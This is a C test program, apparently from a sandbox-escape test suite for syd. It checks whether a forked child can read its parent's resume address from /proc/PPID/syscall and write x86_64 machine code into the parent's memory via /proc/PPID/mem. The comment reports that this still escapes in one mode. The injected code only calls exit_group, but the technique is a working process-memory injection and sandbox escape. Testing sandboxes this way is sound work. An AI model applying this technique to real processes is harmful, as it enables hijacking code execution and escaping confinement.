/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * lock:exec lets only the initial process reach /dev/syd (and cmd/exec!,
 * which runs a program outside the sandbox). A process that writes the
 * initial process's memory through /proc/PID/mem makes it run code of its
 * choosing, /dev/syd commands included. Under "all" syd decides the open
 * and refuses another process's mem (resolve/view.c). Under "offexec"
 * (every category off, lock:exec) opens go back to the kernel once syd
 * saw they are not /dev/syd's, and this still ESCAPES: kept out of the
 * table, as deciding those opens breaks writes such as unshare -r's
 * /proc/self/uid_map (the lead's call). The attack: this program,
 * the initial process, forks and waits in wait4(2); the child reads from
 * /proc/PPID/syscall where the parent will resume, and writes there
 * exit_group(0). Natively (Yama's ptrace_scope 0: a child may write its
 * parent's memory) the parent exits 0. Escape: the parent ran the code.
 */
#include <inttypes.h>
#include <sys/syscall.h>

#include "esc.h"

int main(int argc, char **argv)
{
	/* xor edi,edi; mov eax,231 (exit_group); syscall */
	static const unsigned char code[] = { 0x31, 0xff, 0xb8, 0xe7, 0x00,
					      0x00, 0x00, 0x0f, 0x05 };
	struct esc e;
	pid_t parent = getpid(), pid;
	int status;

	esc_init(&e, argc, argv);
#ifndef __x86_64__
	esc_exit(&e, ESC_UNSUPPORTED, "x86_64 code only");
#endif
	pid = fork();
	if (pid < 0)
		esc_exit(&e, ESC_SETUP, "fork: %s", esc_errname(errno));
	if (pid == 0) {
		char path[64], buf[512];
		uint64_t pc = 0;
		long nr = -1;
		int fd, mem, err = 0;

		/* Until the parent sits in wait4(2): then PC is where it goes on. */
		for (int i = 0; i < 200 && nr != SYS_wait4; i++) {
			ssize_t n;

			usleep(10000);
			snprintf(path, sizeof(path), "/proc/%d/syscall",
				 (int)parent);
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0) {
				err = errno;
				break;
			}
			n = read(fd, buf, sizeof(buf) - 1);
			close(fd);
			buf[n > 0 ? n : 0] = '\0';
			nr = strtol(buf, NULL, 10);
			if (nr == SYS_wait4) {
				const char *last = strrchr(buf, ' ');

				pc = last ? strtoull(last + 1, NULL, 16) : 0;
			}
		}
		snprintf(path, sizeof(path), "/proc/%d/mem", (int)parent);
		mem = err ? -1 : open(path, O_RDWR | O_CLOEXEC);
		if (mem < 0 || !pc) {
			printf("esc-devsyd-hijack: unsupported: the parent's "
			       "/proc/%d/syscall or mem: %s\n",
			       (int)parent, esc_errname(err ? err : errno));
			_exit(3);
		}
		if (pwrite(mem, code, sizeof(code), (off_t)pc) !=
		    (ssize_t)sizeof(code)) {
			printf("esc-devsyd-hijack: blocked: write at %#" PRIx64
			       ": %s\n",
			       pc, esc_errname(errno));
			_exit(1);
		}
		_exit(0);
	}
	if (waitpid(pid, &status, 0) < 0)
		esc_exit(&e, ESC_SETUP, "waitpid: %s", esc_errname(errno));
	/* Here only when the code was not run. */
	fflush(stdout);
	if (WIFEXITED(status) && WEXITSTATUS(status) == 3)
		_exit(ESC_UNSUPPORTED);
	if (WIFEXITED(status) && WEXITSTATUS(status) == 1)
		_exit(ESC_BLOCKED);
	esc_exit(&e, ESC_BLOCKED, "the parent went on (child status %d)",
		 status);
}
